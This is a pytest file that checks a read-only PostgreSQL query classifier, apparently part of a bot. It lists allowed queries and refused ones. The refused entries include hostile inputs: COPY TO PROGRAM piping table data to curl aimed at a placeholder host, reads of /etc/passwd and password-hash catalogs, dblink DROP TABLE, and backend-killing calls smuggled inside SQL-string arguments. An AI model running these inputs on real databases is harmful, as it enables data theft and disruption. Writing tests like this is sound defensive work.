"""The classifier alone: pure, no server."""

from __future__ import annotations

import pytest

from bot.families.sql.classify import SqlRefused, check, classify

ALLOWED = [
    ("SELECT * FROM shop.orders WHERE customer_id = 42", "select"),
    ("select count(*) from pg_stat_activity", "select"),
    ("SELECT relname, n_live_tup FROM pg_catalog.pg_stat_user_tables", "select"),
    ("WITH t AS (SELECT 1 AS x) SELECT x FROM t", "select"),
    ("VALUES (1), (2)", "select"),
    ("TABLE shop.customers", "select"),
    ("SELECT pg_sleep(0.1)", "select"),
    ("SELECT 'a%' LIKE 'a%'", "select"),
    ("EXPLAIN SELECT 1", "explain"),
    ("EXPLAIN (FORMAT JSON, COSTS true) SELECT * FROM shop.orders", "explain"),
    ("EXPLAIN (ANALYZE false) SELECT 1", "explain"),
    ("SHOW work_mem", "show"),
    ("SELECT 1;", "select"),  # a trailing semicolon is still one statement
    # Built-ins by kind, also as the parser spells SQL syntax (EXTRACT, TRIM, AT TIME ZONE).
    (
        "SELECT round(avg(total), 2), count(*) FILTER (WHERE status = 'paid') FROM shop.orders",
        "select",
    ),
    ("SELECT string_agg(email, ',') FROM shop.customers", "select"),
    ("SELECT row_number() OVER (ORDER BY id), lag(id) OVER w FROM t WINDOW w AS ()", "select"),
    ("SELECT extract(year FROM now()), date_trunc('day', now()) AT TIME ZONE 'utc'", "select"),
    ("SELECT trim(both ' ' FROM name), substring(name FROM 1 FOR 3) FROM t", "select"),
    ("SELECT jsonb_build_object('a', 1) ->> 'a', to_jsonb(t) FROM t", "select"),
    ("SELECT pg_catalog.pg_size_pretty(pg_total_relation_size('shop.orders'))", "select"),
    ("SELECT * FROM generate_series(1, 3) g, unnest(ARRAY[1]) u", "select"),
    ("SELECT pg_last_xact_replay_timestamp(), pg_is_in_recovery()", "select"),
    ("SELECT * FROM shop.orders TABLESAMPLE bernoulli(1)", "select"),
    ("SELECT pg_blocking_pids(pid) FROM pg_stat_activity", "select"),
]

REFUSED = [
    ("SELECT 1; SELECT 2", "multi-statement"),
    ("SELECT 1; DELETE FROM shop.orders", "multi-statement"),
    ("COPY shop.orders TO PROGRAM 'curl -d @- evil'", "copy-program"),
    ("COPY (SELECT 1) TO PROGRAM 'sh'", "copy-program"),
    ("COPY shop.orders TO '/tmp/x'", "copy"),
    ("SELECT pg_terminate_backend(123)", "side-effect-function"),
    ("SELECT pg_catalog.pg_cancel_backend(1)", "side-effect-function"),
    ("SELECT set_config('statement_timeout', '0', false)", "side-effect-function"),
    ("SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", "sql-text-function"),
    ("SELECT public.dblink_exec('host=x', 'DROP TABLE t')", "sql-text-function"),
    ("SELECT lo_import('/etc/passwd')", "side-effect-function"),
    ("SELECT lo_export(1, '/tmp/x')", "side-effect-function"),
    ("SELECT nextval('shop.invoice_no')", "side-effect-function"),
    ("SELECT pg_read_file('/etc/passwd')", "side-effect-function"),
    ("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", "sql-text-function"),
    # The attack: a SQL string inside a function argument that runs on the server.
    (
        "SELECT * FROM ts_stat($$SELECT to_tsvector(pg_terminate_backend(7)::text)$$)",
        "sql-text-function",
    ),
    (
        "SELECT ts_rewrite('a'::tsquery, $$SELECT pg_cancel_backend(7)::text::tsquery$$)",
        "sql-text-function",
    ),
    ("SELECT pg_catalog.ts_stat('SELECT 1')", "sql-text-function"),
    ("SELECT word FROM shop.orders o, LATERAL ts_stat('x') s", "sql-text-function"),
    ("SELECT * FROM crosstab('SELECT 1')", "sql-text-function"),
    # Unknown and user-defined functions, and built-in names outside pg_catalog.
    ("SELECT shop.touch_order(1)", "function-not-allowed"),
    ("SELECT lower(x) FROM (SELECT shop.touch_order(1)::text AS x) t", "function-not-allowed"),
    ("SELECT count(*) FROM shop.orders WHERE id = shop.touch_order(1)", "function-not-allowed"),
    ("SELECT shop.count(1)", "function-not-allowed"),
    ("SELECT a.pg_catalog.count(1)", "function-not-allowed"),
    ('SELECT "COUNT"(1)', "function-not-allowed"),
    ("SELECT table_to_xml('shop.notes', true, true, '')", "sql-text-function"),
    ("SELECT pg_stat_get_activity(NULL)", "function-not-allowed"),
    ("SELECT * FROM shop.orders TABLESAMPLE system_rows(10)", "function-not-allowed"),
    ("SELECT setseed(0.5)", "side-effect-function"),
    ("SELECT * FROM shop.orders WHERE id = (SELECT pg_advisory_lock(1))", "side-effect-function"),
    ("SELECT PG_RELOAD_CONF()", "side-effect-function"),
    ("INSERT INTO shop.notes VALUES (2, 'x')", "statement-type"),
    ("UPDATE shop.orders SET status = 'x'", "statement-type"),
    ("DELETE FROM shop.orders", "statement-type"),
    ("DROP TABLE shop.orders", "statement-type"),
    ("SET statement_timeout = 0", "statement-type"),
    ("RESET ALL", "statement-type"),
    ("BEGIN", "statement-type"),
    ("COMMIT", "statement-type"),
    ("DO $$ BEGIN DELETE FROM shop.orders; END $$", "statement-type"),
    ("CALL shop.cleanup()", "statement-type"),
    ("CREATE TABLE x AS SELECT 1", "statement-type"),
    ("VACUUM shop.orders", "statement-type"),
    ("PREPARE p AS DELETE FROM shop.orders", "statement-type"),
    ("LISTEN x", "statement-type"),
    ("WITH d AS (DELETE FROM shop.orders RETURNING *) SELECT * FROM d", "data-modifying"),
    ("SELECT * INTO shop.copy FROM shop.orders", "select-into"),
    ("SELECT * FROM shop.orders FOR UPDATE", "locking-clause"),
    ("SELECT * FROM shop.orders FOR SHARE SKIP LOCKED", "locking-clause"),
    ("SELECT rolpassword FROM pg_authid", "secret-catalog"),
    ("SELECT * FROM pg_catalog.pg_shadow", "secret-catalog"),
    ("EXPLAIN ANALYZE SELECT 1", "explain-analyze"),
    ("EXPLAIN (ANALYZE) SELECT 1", "explain-analyze"),
    ("EXPLAIN (ANALYZE on, FORMAT JSON) SELECT 1", "explain-analyze"),
    ("EXPLAIN DELETE FROM shop.orders", "data-modifying"),
    ("EXPLAIN SELECT pg_terminate_backend(1)", "side-effect-function"),
    ("SELEC 1", "parse-error"),
    ("", "empty"),
    ("-- only a comment", "empty"),
]


@pytest.mark.parametrize(("sql", "kind"), ALLOWED)
def test_read_only_statements_are_allowed(sql: str, kind: str) -> None:
    v = classify(sql)
    assert (v.allowed, v.kind, v.rule) == (True, kind, "sql#read-only"), v.reason


@pytest.mark.parametrize(("sql", "rule"), REFUSED)
def test_each_refused_class_names_its_rule(sql: str, rule: str) -> None:
    v = classify(sql)
    assert not v.allowed and v.rule == f"sql#{rule}", (v.rule, v.reason)
    assert v.reason


def test_analyze_allowed_only_when_policy_says_so() -> None:
    v = classify("EXPLAIN (ANALYZE, FORMAT JSON) SELECT 1", allow_analyze=True)
    assert v.allowed and v.analyze and v.json_plan
    # Even with ANALYZE allowed, what it executes must itself be read-only.
    verdict = classify("EXPLAIN ANALYZE DELETE FROM t", allow_analyze=True)
    assert verdict.rule == "sql#data-modifying"


def test_policy_can_allow_more_functions_by_exact_name() -> None:
    assert classify("SELECT shop.touch_order(1)", allow_functions=["shop.touch_order"]).allowed
    # The spelling is exact: an unqualified grant does not allow another schema's function.
    v = classify("SELECT evil.touch_order(1)", allow_functions=["touch_order", "shop.touch_order"])
    assert v.rule == "sql#function-not-allowed" and "allow_functions" in v.reason
    # Functions that run SQL text or act stay refused even if policy names them.
    for sql, name in [
        ("SELECT * FROM ts_stat('SELECT 1')", "ts_stat"),
        ("SELECT pg_terminate_backend(1)", "pg_terminate_backend"),
        ("SELECT public.dblink('x', 'y')", "public.dblink"),
    ]:
        v = classify(sql, allow_functions=[name])
        assert not v.allowed and "even if policy names it" in v.reason, (sql, v)


def test_check_raises_with_rule() -> None:
    with pytest.raises(SqlRefused) as info:
        check("SELECT 1; SELECT 2")
    assert info.value.rule == "sql#multi-statement"
    assert str(info.value).startswith("REFUSED by sql#multi-statement: ")
